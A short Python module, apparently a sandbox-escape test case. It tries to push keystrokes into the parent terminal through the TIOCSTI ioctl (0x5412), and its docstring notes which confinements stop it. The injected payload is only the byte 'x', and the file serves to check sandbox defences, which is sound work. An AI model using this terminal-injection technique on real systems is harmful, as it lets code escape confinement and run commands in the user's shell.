"""Types a command into the terminal from which the host was started.

stopped_by: no terminal; seccomp: TIOCSTI by its low 32 bits
plain bwrap: stopped
how: executed
"""

import fcntl
import os


def attack():
    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/console"):
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            for byte in b"x":
                fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
            return 1.0
        except OSError:
            continue
    return 0.0
